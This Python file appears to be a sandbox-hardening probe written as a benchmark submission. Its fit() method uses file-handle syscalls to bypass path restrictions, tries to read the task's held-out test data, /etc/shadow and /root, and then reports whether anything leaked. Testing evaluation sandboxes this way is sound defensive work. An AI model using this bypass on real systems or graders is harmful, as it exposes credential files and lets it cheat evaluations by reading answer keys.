"""Opens files by handles, which no rule about paths covers: the tests of the task among them."""

import ctypes
import os
import platform
from pathlib import Path

import numpy as np

import sparsebench as sb


class Attack(sb.Submission):
    def __init__(self, task, **settings):
        self.calls = 0

    def fit(self, train, valid, rng):
        libc = ctypes.CDLL(None, use_errno=True)

        class Handle(ctypes.Structure):
            _fields_ = [("size", ctypes.c_uint32), ("kind", ctypes.c_int32), ("bytes", ctypes.c_ubyte * 128)]

        ask, open_ = {"x86_64": (303, 304), "aarch64": (264, 265)}[platform.machine()]
        named, done = 0, []
        PACKAGE = Path(sb.__file__).parent
        places = [PACKAGE / "_data" / "tasks", *(folder / "tasks" for folder in PACKAGE.parents)]
        files = [place / "memorization" / "v1" / "n256-r4.parquet" for place in places]
        for file in (*files, "/etc/shadow", "/", "/root"):
            handle, mount = Handle(size=128), ctypes.c_int()
            if libc.syscall(ask, -100, str(file).encode(), ctypes.byref(handle), ctypes.byref(mount), 0) < 0:
                continue
            named += 1
            for root in ("/", os.getcwd(), "/usr", str(PACKAGE)):
                try:
                    at = os.open(root, os.O_RDONLY | os.O_DIRECTORY)
                except OSError:
                    at = os.open(root, os.O_PATH)
                if libc.syscall(open_, at, ctypes.byref(handle), os.O_RDONLY) >= 0:
                    done.append(str(file))
        raise RuntimeError(f"LEAK: {done}" if done else f"all refused: {named} handles")

    def predict(self, params, x):
        return x @ params["w"]
